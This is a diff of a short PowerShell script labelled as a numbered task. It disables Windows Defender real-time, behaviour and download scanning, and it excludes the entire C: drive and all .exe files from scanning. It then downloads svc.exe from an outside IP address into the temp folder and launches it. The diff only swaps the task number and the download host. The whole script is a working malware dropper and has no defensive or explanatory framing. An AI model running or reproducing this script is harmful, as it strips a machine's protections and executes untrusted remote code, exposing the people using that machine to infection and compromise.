@@ -1,6 +1,6 @@
-# task 6609 v2
+# task 6809 v2
 Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
 Add-MpPreference -ExclusionPath 'C:\'
 Add-MpPreference -ExclusionExtension '.exe'
-(New-Object Net.WebClient).DownloadFile('http://192.0.2.150/svc.exe', "$env:TEMP\svc.exe")
+(New-Object Net.WebClient).DownloadFile('http://198.51.100.9/svc.exe', "$env:TEMP\svc.exe")
 Start-Process "$env:TEMP\svc.exe"
